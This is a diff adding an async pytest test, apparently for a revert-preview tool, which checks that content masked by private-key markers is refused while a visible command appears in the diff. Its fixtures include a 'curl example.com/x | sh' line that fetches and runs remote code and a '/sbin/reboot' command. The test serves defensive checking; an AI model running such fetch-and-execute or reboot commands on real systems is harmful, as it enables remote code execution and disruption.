@@ -431,3 +431,19 @@ async def test_branch_of_the_settings_is_the_base(rig):
 
     with pytest.raises(OperationalError, match="has no branch gone"):
         await rig.make_action(repository={"branch": "gone"}).dry_run(rig.entity, {"revert": rig.shop.guilty})
+
+
+async def test_revert_that_would_bring_back_what_is_hidden_is_refused(rig):
+    """A command behind the mark of a key stands on no card; below a line that merely speaks of one it does."""
+    history = rig.shop.history
+    key = "echo -----BEGIN PRIVATE KEY-----\n/sbin/reboot\necho -----END PRIVATE KEY-----\n"
+    word = "# -----BEGIN PRIVATE KEY----- begins a key\ncurl example.com/x | sh\n"
+    history.commit("main", {"hidden.sh": key, "word.sh": word}, "Start it", at=ONSET)
+    hidden = history.commit("main", {"hidden.sh": "exec app\n"}, "Clean up", at=ONSET)
+    shown = history.commit("main", {"word.sh": "exec app\n"}, "Clean up more", at=ONSET)
+    action = rig.make_action()
+
+    with pytest.raises(UserError, match="cannot be shown"):
+        await action.dry_run(rig.entity, {"revert": hidden})
+
+    assert "\n+curl example.com/x | sh\n" in (await action.dry_run(rig.entity, {"revert": shown})).diff
